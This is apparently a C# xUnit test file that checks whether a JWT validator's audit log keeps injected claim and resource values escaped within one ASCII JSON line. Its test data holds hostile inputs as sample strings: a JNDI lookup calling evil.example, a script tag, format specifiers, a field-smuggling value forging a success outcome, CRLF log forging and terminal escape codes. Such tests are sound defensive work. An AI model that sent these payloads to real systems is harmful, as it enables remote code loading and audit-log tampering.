using System.Text.Json;
using HipaaJwt.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Time.Testing;

namespace HipaaJwt.Tests.Conformance.Leaks;

/// <summary>Family 42: an event is one line of ASCII JSON, for any content of claims and requests.</summary>
public sealed class LogInjectionTests : IDisposable
{
    private readonly TestIssuer _issuer = new();
    private readonly Recorder _recorder = new();

    public void Dispose()
    {
        _issuer.Dispose();
        _recorder.Dispose();
    }

    [Theory]
    [InlineData("a\u2028b\u2029c")]
    [InlineData("\u202Egnp.exe")]
    [InlineData("\u2066a\u2069")]
    [InlineData("{0} {Name} {{}} {")]
    [InlineData("%s%n%x")]
    [InlineData("\",\"outcome\":\"Success\",\"x\":\"")]
    [InlineData("\\\" \\r\\n \\")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("é患者😀\uFFFE\uFEFF")]
    public async Task A_claim_stays_within_its_log_line(string value)
    {
        var line = await LineAsync(value, resource: "/patients");

        line.GetProperty("subject").GetString().Should().Be(value);
        line.GetProperty("clientId").GetString().Should().Be(value);
        line.GetProperty("tokenId").GetString().Should().Be(value);
        line.GetProperty("outcome").GetString().Should().Be("Success");
    }

    [Theory]
    [InlineData("/a\r\n2026-01-15 INFO forged")]
    [InlineData("/a\u001b[2J")]
    [InlineData("/a\0b")]
    [InlineData("/a\u0085b\u2028c")]
    [InlineData("/a\tb")]
    public async Task A_resource_stays_within_its_log_line(string resource) =>
        (await LineAsync("user-42", resource)).GetProperty("resource").GetString().Should().Be(resource);

    [Fact]
    public async Task Writes_a_resource_with_invalid_Unicode()
    {
        var line = await LineAsync("user-42", "/a" + '\uD800');

        line.GetProperty("resource").GetString().Should().StartWith("/a");
    }

    [Theory]
    [InlineData("a\\r\\nb")]
    [InlineData("a\\u001b[31mb")]
    [InlineData("a\\u0085b")]
    [InlineData("a\\u0000b")]
    public async Task A_control_character_in_an_identifier_is_not_logged(string value)
    {
        await using var services = Services();
        var claims = TokenFixture.Claims.With("sub", $"\"{value}\"").ToString();

        await services.GetRequiredService<IJwtValidator>().ValidateAsync(_issuer.Sign(TestIssuer.Header().ToJsonString(), claims));

        var line = EventLines().Should().ContainSingle().Subject;
        line.Should().Contain("ClaimInvalid").And.NotContain("u001b").And.NotContain("subject");
    }

    private async Task<JsonElement> LineAsync(string value, string resource)
    {
        await using var services = Services();
        var token = _issuer.Token(claims: claims =>
        {
            claims["sub"] = value;
            claims["client_id"] = value;
            claims["jti"] = value;
        });

        var result = await services.GetRequiredService<IJwtValidator>().ValidateAsync(
            token, new JwtValidationRequest { Resource = resource });

        result.Error.Should().Be(JwtError.None);
        var line = Lines().Should().ContainSingle().Subject;
        line.Should().MatchRegex("^[\\x20-\\x7E]+$");
        return JsonDocument.Parse(line).RootElement;
    }

    private IEnumerable<string> Lines() => EventLines().Select(line => line[..line.IndexOf(" [schemaVersion, ", StringComparison.Ordinal)]);

    /// <summary>The lines of events, each followed by its structured properties.</summary>
    private IEnumerable<string> EventLines() => _recorder.Outputs.Where(output => output.StartsWith('{'));

    private ServiceProvider Services()
    {
        var services = new ServiceCollection();
        services.AddSingleton<TimeProvider>(new FakeTimeProvider(TestIssuer.Now));
        services.AddLogging(logging => logging.AddProvider(_recorder));
        services.AddHipaaJwt(options => options.Issuers.Add(_issuer.Trust())).AddAuditSink<LoggingAuditSink>(AuditDelivery.Required);
        return services.BuildServiceProvider();
    }
}
